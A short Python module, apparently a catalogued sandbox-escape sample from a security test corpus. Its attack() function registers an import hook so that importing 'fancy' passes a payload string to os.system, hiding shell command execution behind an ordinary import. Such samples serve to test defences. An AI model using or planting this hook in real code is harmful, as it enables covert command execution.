"""A module is a command, and its loader's exec_module() a function of C."""
CATEGORY = "callable"
REACH = "run"

import os
import sys
from importlib.machinery import ModuleSpec

from . import payload


class Module(str):
    pass


class Loader:

    def create_module(self, spec):
        return Module(payload.COMMAND)


class Finder:

    @staticmethod
    def find_spec(name, path=None, target=None):
        if name == "fancy":
            loader = Loader()
            loader.exec_module = os.system
            return ModuleSpec(name, loader)


def attack():
    sys.meta_path.insert(0, Finder)
